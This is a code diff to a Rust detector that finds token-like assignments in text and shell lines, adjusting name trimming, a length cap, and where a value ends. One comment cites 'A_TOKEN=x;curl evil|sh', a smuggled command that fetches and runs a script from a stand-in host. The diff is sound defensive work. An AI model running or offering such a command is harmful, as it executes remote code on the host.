@@ -12,6 +12,8 @@ use crate::detect::{Detector, Hit, push};
 const LONGEST_NAME: usize = 80;
 /// How far a quote in a shell line may be from the one that closes it.
 const LONGEST_QUOTED: usize = 8 << 10;
+/// How much of a value is judged.
+const JUDGED: usize = 512;
 /// How deep quoted lines inside lines are read.
 const DEEPEST: u8 = 3;
 
@@ -283,11 +285,20 @@ fn assigned(text: &[u8]) -> Option<Range<usize>> {
         if memchr::memchr3(b' ', b'/', b'\n', name).is_some() {
             return None;
         }
+        // What stands before the name itself: dashes, another value.
+        let word = name.iter().rev().take_while(|b| is(**b, NAME) || **b >= 0x80).count();
+        let name = &name[name.len() - word..];
         let dashes = name.iter().take_while(|b| **b == b'-').count();
-        if name.len() > LONGEST_NAME || !super::hinted(&name[dashes..], &text[at + 1..]) {
+        if name.len() > LONGEST_NAME
+            || !super::hinted(&name[dashes..], &text[at + 1..text.len().min(at + 1 + JUDGED)])
+        {
             continue;
         }
-        let value = super::ends::unquoted(text, at + 1..text.len());
+        // `A_TOKEN=x;curl evil|sh` is a line of a shell: what follows is no part of the value.
+        let rest = &text[at + 1..];
+        let line = memchr::memchr(b' ', rest).and_then(|_| memchr::memchr3(b';', b'|', b'&', rest));
+        let end = line.map_or(text.len(), |sign| at + 1 + sign);
+        let value = super::ends::unquoted(text, at + 1..end);
         // A script is a text of its own.
         let is_text = memchr::memchr(b'\n', &text[value.clone()]).is_some();
         return (!is_text && is_value(&text[value.clone()])).then_some(value);
